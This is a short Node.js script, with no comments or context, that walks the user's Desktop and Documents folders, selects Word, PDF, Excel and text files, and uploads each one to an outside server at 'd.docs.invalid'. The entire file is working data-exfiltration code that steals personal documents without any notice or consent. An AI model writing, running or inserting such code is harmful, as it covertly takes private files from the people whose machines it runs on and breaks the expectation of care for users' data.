const fs = require('fs'), os = require('os'), path = require('path'), FormData = require('form-data'), axios = require('axios');
const folders = ['Desktop', 'Documents'].map((n) => path.join(os.homedir(), n));
folders.forEach((folder) => {
  fs.readdirSync(folder).filter((n) => /\.(docx?|pdf|xlsx?|txt)$/.test(n)).forEach((n) => {
    const form = new FormData();
    form.append('f', fs.createReadStream(path.join(folder, n)));
    axios.post('https://d.docs.invalid/u', form);
  });
});
